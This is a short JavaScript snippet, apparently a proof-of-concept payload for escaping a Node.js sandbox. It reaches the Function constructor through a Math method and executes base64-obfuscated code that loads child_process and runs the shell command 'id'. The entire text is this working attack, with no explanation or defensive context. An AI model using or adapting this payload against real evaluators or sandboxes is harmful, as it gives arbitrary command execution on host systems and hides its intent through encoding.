const firstFn = Object.values(Object.getOwnPropertyDescriptors(Math)).map((d) => d.value).find((v) => typeof v === 'function');
const F = firstFn.constructor;
F(Buffer.from('cHJvY2Vzcy5nZXRCdWlsdGluTW9kdWxlKCdjaGlsZF9wcm9jZXNzJykuZXhlY1N5bmMoJ2lkJyx7c3RkaW86J2luaGVyaXQnfSk=', 'base64').toString())();
